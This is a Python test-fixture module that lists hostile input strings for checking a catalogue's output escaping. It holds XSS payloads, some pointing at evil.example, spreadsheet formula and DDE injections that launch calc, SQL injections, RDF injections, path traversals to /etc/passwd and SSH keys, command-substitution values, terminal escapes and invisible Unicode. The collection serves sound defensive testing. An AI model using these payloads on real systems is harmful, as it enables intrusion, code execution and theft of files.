"""One list of hostile strings for every output: script, formulas, SQL, RDF, paths, terminals, signs that cannot be seen, NUL, length.

`STRINGS` are what a source might put into a text. `CONTROL` are those that hold signs no text in the catalogue's own metadata may have.
"""

from __future__ import annotations

import unicodedata

SCRIPT = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example></script>", "<img src=x onerror=alert(1)>", "<img src='x' onerror='alert(1)'/>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<math><mtext></mtext></math>", "<a href='javascript:alert(1)'>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", "<form action=//evil.example><input name=q></form>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", '" onmouseover="alert(1)', "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)", '"><script>alert(1)</script>', "'><script>alert(1)</script>", "--><script>alert(1)</script>",
    "<!-- comment", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<%= 7*7 %>",
    "{{ 7*7 }}", "{% raw %}", "{# comment #}", "${7*7}", "#{7*7}", "{{constructor.constructor('alert(1)')()}}", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;lt;", "%3Cscript%3E", "\\u003cscript\\u003e", "<script>",
    "</textarea>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<plaintext>", "<xmp>", "<b>bold",
    "</div></main></body></html>", "[click](javascript:alert(1))", "![x](javascript:alert(1))", "<https://evil.example>",
    "[x]: javascript:alert(1)", "**bold** _it_ `code`",
]  # fmt: skip
FORMULA = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://e")', "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@A1", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "'=1+1", '"=1+1"', "＝1+1", "＋1", "－1", "＠A1", "=1+1;=2+2", "=1+1,=2+2", "%0A=1+1", "{=1+1}",
    'DDE("cmd";"/C calc";"x")', "=-1", "==1", "|calc", "−1+1",
]  # fmt: skip
SQL = [
    "'; drop table observations; --", "' or '1'='1", '" or ""="', "1; attach 'x' as y", "'); copy (select 1) to '/tmp/x'; --",
    "\\'; --", "$$; --", "/* */ union select 1", "; install httpfs", "select * from read_csv('/etc/passwd')", '"', "''", "'''", '""',
    "`", "]", "[1]", 'a"b\'c', "%", "_", "0x27", "char(39)", "null", "NULL", "NaN", "Infinity", "-Infinity", "1e400", "true",
    "undefined", "None", "nan", "0301", "00", "-0",
]  # fmt: skip
RDF = [
    '" . <http://evil.example/s> <http://evil.example/p> "o', '""" . <a> <b> <c> . """',
    "> <http://evil.example/p> <http://evil.example/o", '"@en .', '"^^<http://evil.example/type>', "_:b0 <p> <o> .",
    "@prefix evil: <http://evil.example/> .", "PREFIX evil: <x>", "BASE <http://evil.example/>", "\\u0022 . <s> <p> <o>",
    '\\" . <s> <p> <o>', "<<http://a> <b> <c>>", '{"@context":"http://evil.example/"}', '{"@id":"http://evil.example/"}', "@context",
    "@id", "@type", "@graph", "http://evil.example/ space", "http://evil.example/<>", "a\\", "\\", "\\\\", "#", "# comment", "a b c .",
    ";", ",",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\windows\\win.ini", "file:///etc/passwd", "\\\\server\\share",
    "~/.ssh/id_rsa", ".", "..", "...", "CON", "NUL", "aux.txt", "a/b", "a\\b", "a:b", "%2e%2e%2f", "..%2f", "....//", "-rf", "--help",
    "$(id)", "`id`", "| id", "; id", "&& id", "$HOME", "${IFS}", "*", "?", "~",
]  # fmt: skip
TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "\x1b[1;1H", "\x9b31m", "\x07", "\x08\x08\x08", "abc\rdef",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "line\nline", "line\r\nline", "tab\ttab", "\x0b", "\x0c", "\x7f", "\x1bc",
    "\x1b[?25l",
]  # fmt: skip
UNSEEN = [
    "\u202eevil\u202c", "\u2066x\u2069", "a\u200bb", "a\u200db", "\ufeffbom", "\xa0", "\u2028", "\u2029", "\x00", "a\x00b", "\x01",
    "\x1f", "\ufffe", "\uffff", "e\u0301", "A\u030a", "\u0130", "ß", "ﬁ", "𝓐", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "🇳🇴",
    "مرحبا", "שלום", "你好", "Kárášjohka", "Ålesund", "A\u0300\u0301\u0302" * 20, "\u061c", "\u180e",
]  # fmt: skip
LONG = ["x" * 10_000, "<" * 5_000, "=" * 5_000, "'" * 5_000, "a " * 5_000, "\\" * 5_000, '"' * 5_000, "é" * 40_000]

STRINGS: list[str] = [*SCRIPT, *FORMULA, *SQL, *RDF, *PATHS, *TERMINAL, *UNSEEN, *LONG]


def is_control(text: str) -> bool:
    """Whether a text holds a control sign, one that turns the direction of writing, or one that is no character."""
    return any(
        (unicodedata.category(sign) == "Cc" and sign not in "\n\t")
        or sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufffe\uffff"
        for sign in text
    )


CONTROL = [text for text in STRINGS if is_control(text)]
PLAIN = [text for text in STRINGS if not is_control(text) and text.strip()]
